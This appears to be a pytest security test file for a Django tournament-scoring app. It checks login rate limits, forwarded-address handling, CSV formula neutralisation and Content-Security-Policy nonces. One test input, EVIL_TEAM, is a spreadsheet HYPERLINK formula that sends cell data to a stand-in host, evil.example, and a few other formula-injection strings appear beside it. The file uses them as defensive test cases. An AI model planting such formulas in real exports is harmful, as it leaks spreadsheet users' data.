"""What an attacker's probes find: rate limits on every way in, CSV that cannot run formulas,
a Content-Security-Policy on every page, pages that answer HEAD."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.core.cache import cache
from django.test import RequestFactory, override_settings
from django.urls import reverse

from api.spreadsheet import safe_cell, writer
from scoring import services as scoring
from tests.factories import TEAMS
from tests.problems import kind, problem
from tournaments import services
from tournaments.models import Table
from web.ratelimits import client_ip

ROOT = Path(__file__).resolve().parents[2]
LOGIN, ADMIN_LOGIN, TOKEN = "/accounts/login/", "/admin/login/", "/api/v1/token/"
WAYS_IN = [LOGIN, ADMIN_LOGIN, TOKEN]
PROXY = "172.18.0.2"  # the TLS proxy, as the app sees it
WIN_0 = {"maker": 0, "card_points": [90, 62], "last_trick": 0}


@pytest.fixture(autouse=True)
def fresh_limits():
    """The limits count in the (process-wide) cache: every test starts with none."""
    cache.clear()
    yield
    cache.clear()


def attempt(client, url, username, addr="192.0.2.1", **meta):
    return client.post(url, {"username": username, "password": "wrong"}, REMOTE_ADDR=addr, **meta)


# Rate limits: per address and per username, on the three ways in ---------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("url", WAYS_IN)
def test_each_way_in_is_limited_per_address_whatever_the_username(client, url):
    for n in range(10):
        assert attempt(client, url, f"user{n}").status_code != 429
    response = attempt(client, url, "someone-else")
    assert response.status_code == 429
    assert "Too many attempts" in response.text


@pytest.mark.django_db
@pytest.mark.parametrize("url", WAYS_IN)
def test_each_way_in_is_limited_per_username_from_any_address(client, url):
    for n in range(10):
        assert attempt(client, url, "nikos", addr=f"198.51.100.{n}").status_code != 429
    assert attempt(client, url, "nikos", addr="203.0.113.99").status_code == 429
    # Another username from another address is not held up.
    assert attempt(client, url, "eleni", addr="203.0.113.98").status_code != 429


@pytest.mark.django_db
def test_the_ways_in_share_their_counts_and_ignore_the_case_of_the_username(client):
    for n, url in enumerate([LOGIN] * 4 + [ADMIN_LOGIN] * 3 + [TOKEN] * 3):
        assert attempt(client, url, "Nikos" if n % 2 else "nikos", addr=f"198.51.100.{n}").status_code != 429
    assert attempt(client, LOGIN, "NIKOS", addr="203.0.113.99").status_code == 429


@pytest.mark.django_db
def test_the_token_endpoint_reads_the_username_of_a_json_body_and_answers_429_in_json(client):
    for n in range(10):
        body = json.dumps({"username": "nikos", "password": f"guess-{n}"})
        response = client.post(TOKEN, body, content_type="application/json", REMOTE_ADDR=f"198.51.100.{n}")
        refused = problem(response, 400)
        assert refused["errors"][0]["attr"] is None and "Unable to log in" in refused["detail"]
    body = json.dumps({"username": "nikos", "password": "guess"})
    response = client.post(TOKEN, body, content_type="application/json", REMOTE_ADDR="203.0.113.99")
    assert response["Retry-After"] == "60"
    assert problem(response, 429) == {
        "type": kind("throttled"),
        "title": "Too many requests",
        "status": 429,
        "detail": "Too many attempts: wait a minute and try again.",
        "instance": TOKEN,
    }


@pytest.mark.django_db
def test_a_right_password_still_logs_in_under_the_limit(client, django_user_model):
    django_user_model.objects.create_user(username="nikos", password="pw-nikos-12345")
    response = client.post(TOKEN, {"username": "nikos", "password": "pw-nikos-12345"})
    assert response.status_code == 200 and response.json()["token"]


# The client's address: REMOTE_ADDR, or X-Forwarded-For behind trusted proxies ------------------


@pytest.mark.django_db
def test_without_trusted_proxies_a_forwarded_for_header_is_ignored(client):
    """Off by default: sending one's own X-Forwarded-For does not dodge the limit."""
    for n in range(10):
        assert attempt(client, LOGIN, f"user{n}", HTTP_X_FORWARDED_FOR=f"10.0.0.{n}").status_code != 429
    assert attempt(client, LOGIN, "user-x", HTTP_X_FORWARDED_FOR="10.0.1.1").status_code == 429


def via_proxy(client, username, forwarded):
    """An attempt through the TLS proxy, which appended the address it saw to X-Forwarded-For."""
    return attempt(client, LOGIN, username, addr=PROXY, HTTP_X_FORWARDED_FOR=forwarded)


@pytest.mark.django_db
@override_settings(TSOXA_TRUSTED_PROXIES=1)
def test_behind_a_trusted_proxy_one_client_does_not_lock_out_everyone(client):
    for n in range(10):
        assert via_proxy(client, f"user{n}", "203.0.113.7").status_code != 429
    assert via_proxy(client, "user-x", "203.0.113.7").status_code == 429
    # Someone else, through the same proxy, logs in as usual.
    assert via_proxy(client, "user-y", "198.51.100.4").status_code == 200


@pytest.mark.django_db
@override_settings(TSOXA_TRUSTED_PROXIES=1)
def test_behind_a_trusted_proxy_a_client_cannot_dodge_the_limit_with_its_own_header(client):
    """The client's own X-Forwarded-For comes first; the proxy appends the address it saw."""
    for n in range(10):
        assert via_proxy(client, f"user{n}", f"10.9.9.{n}, 203.0.113.7").status_code != 429
    assert via_proxy(client, "user-x", "10.9.9.200, 203.0.113.7").status_code == 429


@pytest.mark.parametrize(
    ("proxies", "forwarded", "expected"),
    [
        (0, "203.0.113.7", PROXY),  # off: the header is not read
        (1, "203.0.113.7", "203.0.113.7"),
        (1, "10.0.0.1, 203.0.113.7", "203.0.113.7"),  # the client's own entry is ignored
        (2, "10.0.0.1, 203.0.113.7, 172.18.0.9", "203.0.113.7"),  # two proxies: the outer one's entry
        (2, "203.0.113.7", PROXY),  # fewer entries than proxies: not through them
        (1, "", PROXY),  # no header: a request that did not come through the proxy
        (1, "not-an-address", PROXY),
        (1, "2001:db8::1", "2001:db8::1"),
    ],
)
def test_the_client_address_comes_from_the_entry_the_trusted_proxy_added(proxies, forwarded, expected):
    request = RequestFactory().get("/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR=forwarded)
    with override_settings(TSOXA_TRUSTED_PROXIES=proxies):
        assert client_ip(request) == expected


# The scorekeeper link: failed look-ups only ----------------------------------------------------


@pytest.fixture
def table(django_user_model):
    organizer = django_user_model.objects.create_user(username="organizer", password="pw-organizer-12345")
    t = services.tournament_create(organizer=organizer, name="Link night", swiss_rounds=1, deals_per_match=1)
    for name, players in TEAMS:
        services.entry_register(tournament=t, name=name, players=players)
    services.tournament_start(tournament=t)
    rnd = services.round_generate(tournament=t)
    services.round_start(rnd=rnd)
    return Table.objects.get(round=rnd, number=1)


@pytest.mark.django_db
def test_a_tablet_opening_its_own_link_again_and_again_is_never_limited(client, table):
    link = reverse("tournaments:scorekeeper", args=[table.token])
    for _ in range(100):
        assert client.get(link).status_code in (200, 302)


@pytest.mark.django_db
def test_a_guesser_is_limited_even_on_a_valid_link(client, table):
    for n in range(30):
        assert client.get(reverse("tournaments:scorekeeper", args=[f"guess-{n}"])).status_code == 404
    assert client.get(reverse("tournaments:scorekeeper", args=["guess-31"])).status_code == 429
    assert client.get(reverse("tournaments:scorekeeper", args=[table.token])).status_code == 429
    # Another table's tablet, elsewhere, is not.
    other = client.get(reverse("tournaments:scorekeeper", args=[table.token]), REMOTE_ADDR="198.51.100.1")
    assert other.status_code in (200, 302)


# CSV: names cannot become formulas --------------------------------------------------------------

EVIL_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+30 6912345678", "'+30 6912345678"),
        ("-Nikos", "'-Nikos"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Kafeneio A", "Kafeneio A"),
        ("", ""),
        (-20, -20),  # a number stays a number
        (0, 0),
        (12.5, 12.5),
    ],
)
def test_a_text_cell_that_would_start_a_formula_is_quoted(value, written):
    assert safe_cell(value) == written


def test_the_csv_writer_leaves_negative_numbers_alone():
    out = io.StringIO()
    writer(out).writerow(["=cmd", -20, "made"])
    assert out.getvalue() == "'=cmd,-20,made\r\n"


@pytest.mark.django_db
def test_the_csv_exports_neutralise_formulas_in_names(client, django_user_model):
    organizer = django_user_model.objects.create_user(username="organizer", password="pw-organizer-12345")
    t = services.tournament_create(organizer=organizer, name="Formulas", swiss_rounds=1, deals_per_match=1)
    services.entry_register(tournament=t, name=EVIL_TEAM, players=["@Nikos", "Eleni"])
    services.entry_register(tournament=t, name="Kafeneio B", players=["Giorgos", "-Maria"])
    services.tournament_start(tournament=t)
    rnd = services.round_start(rnd=services.round_generate(tournament=t))
    match = rnd.tables.get(number=1).match
    maker = 0 if match.team0.name == EVIL_TEAM else 1
    scoring.deal_record(match=match, deal={**WIN_0, "maker": maker, "last_trick": maker,
                        "card_points": [90, 62] if maker == 0 else [62, 90]}, user=organizer)  # fmt: skip
    services.standings_refresh(tournament_id=t.pk)

    response = client.get(f"/api/v1/tournaments/{t.slug}/standings.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    evil = next(r for r in rows if r["team"].endswith(EVIL_TEAM[1:]))
    other = next(r for r in rows if r is not evil)
    assert evil["team"] == "'" + EVIL_TEAM
    assert evil["player_a"] == "'@Nikos"
    assert other["player_b"] == "'-Maria"
    assert int(other["point_difference"]) < 0  # the loser's negative difference, unquoted
    assert other["point_difference"] == str(-int(evil["point_difference"]))

    response = client.get(f"/api/v1/tournaments/{t.slug}/deals.csv")  # streamed
    (deal,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert "'" + EVIL_TEAM in (deal["team_0"], deal["team_1"])
    assert not any(value.startswith(("=", "+", "@")) for value in deal.values())


# Content-Security-Policy -------------------------------------------------------------------------


def policy(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    return {d.split()[0]: d.split()[1:] for d in (part.strip() for part in header.split(";")) if d}


def assert_strict(directives: dict[str, list[str]]) -> None:
    assert directives["default-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"]
    assert directives["frame-ancestors"] == ["'none'"]
    assert directives["form-action"] == ["'self'"]
    assert directives["base-uri"] == ["'self'"]
    assert "data:" in directives["img-src"]
    assert "'unsafe-inline'" not in directives["script-src"]
    assert "'unsafe-eval'" not in directives["script-src"]


def inline_scripts(html: str) -> list[str]:
    """The opening tags of the scripts written in the page (no src), JSON data blocks aside."""
    tags = re.findall(r"<script\b[^>]*>", html)
    return [t for t in tags if "src=" not in t and "application/json" not in t]


@pytest.fixture
def pages(client, django_user_model, table):
    keeper = django_user_model.objects.create_user(username="keeper", password="pw-keeper-12345")
    match = scoring.match_create(teams=TEAMS, first_dealer=0, created_by=keeper)
    client.force_login(keeper)
    slug = table.round.tournament.slug
    return {
        "home": "/",
        "sheet": reverse("scoring:match", args=[match.pk]),
        "help": reverse("scoring:help"),
        "tournaments": reverse("tournaments:list"),
        "tournament": reverse("tournaments:home", args=[slug]),
        "standings": reverse("tournaments:standings", args=[slug]),
        "round": reverse("tournaments:round", args=[slug, 1]),
        "players": reverse("players:list"),
        "login": LOGIN,
    }


@pytest.mark.django_db
def test_every_page_has_a_strict_policy_and_its_inline_script_carries_the_nonce(client, pages):
    for name, url in pages.items():
        response = client.get(url)
        assert response.status_code == 200, name
        directives = policy(response)
        assert_strict(directives)
        (nonce,) = [v for v in directives["script-src"] if v.startswith("'nonce-")]
        scripts = inline_scripts(response.text)
        assert scripts, name  # base.html's one
        for tag in scripts:
            assert f'nonce="{nonce[7:-1]}"' in tag, (name, tag)


@pytest.mark.django_db
def test_the_nonce_changes_with_every_response(client, pages):
    first, second = (policy(client.get(pages["home"]))["script-src"] for _ in range(2))
    assert first != second


@pytest.mark.django_db
def test_the_api_answers_carry_the_policy_too(client, pages):
    for url in ["/api/v1/tournaments/", "/api/v1/matches/", "/api/schema/"]:
        response = client.get(url, HTTP_ACCEPT="application/json")
        assert response.status_code == 200, url
        assert_strict(policy(response))


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/api/docs/", "/api/redoc/"])
def test_the_api_docs_pages_have_a_policy_of_their_own_without_inline_script(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert_strict(policy(response))
    assert inline_scripts(response.text) == []  # so 'self' is enough for them


@pytest.mark.django_db
def test_the_swagger_ui_start_up_script_is_served_from_our_origin(client):
    page = client.get("/api/docs/").text
    (src,) = re.findall(r'<script src="([^"]*script[^"]*)"', page)
    script = client.get(src.replace("&amp;", "&"))
    assert script.status_code == 200
    assert "SwaggerUIBundle" in script.text


@pytest.mark.django_db
def test_the_chart_keeps_its_own_stricter_policy(client, pages):
    match_pk = re.search(r"/matches/(\d+)/", pages["sheet"]).group(1)
    chart = client.get(reverse("scoring:match_chart_svg", args=[match_pk]))
    assert chart.status_code == 200
    assert chart["Content-Security-Policy"] == "default-src 'none'; style-src 'unsafe-inline'"


def test_no_template_or_static_file_has_inline_handlers_or_scripts_without_the_nonce():
    """Inline event handlers (onclick=…) and javascript: links never run under the policy."""
    found = []
    for path in [*(ROOT / "templates").rglob("*.html"), *(ROOT / "static").rglob("*.html")]:
        text = path.read_text()
        found += [f"{path.name}: {m}" for m in re.findall(r"\son[a-z]+\s*=\s*[\"']", text)]
        found += [f"{path.name}: javascript:" for _ in re.findall(r"javascript:", text)]
        found += [f"{path.name}: {t}" for t in inline_scripts(text) if "csp_nonce" not in t]
        # htmx evaluates a trigger's [filter]: refused by the policy.
        found += [f"{path.name}: {m}" for m in re.findall(r"hx-trigger=\"[^\"]*\[", text)]
    assert found == []


# Pages answer HEAD -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_pages_answer_head(client, pages):
    slug = re.search(r"/tournaments/([^/]+)/$", pages["tournament"]).group(1)
    urls = [
        pages["tournaments"],
        pages["tournament"],
        pages["standings"],
        pages["round"],
        reverse("tournaments:round_print", args=[slug, 1]),
        pages["players"],
        reverse("players:leaderboard"),
        "/health/",
        pages["sheet"],
        reverse("scoring:home"),
        reverse("scoring:help"),
        reverse("scoring:match_new"),  # a page that also takes a form
        reverse("tournaments:signup", args=[slug]),
    ]
    for url in urls:
        response = client.head(url)
        assert response.status_code == 200, url
        assert response.content == b""
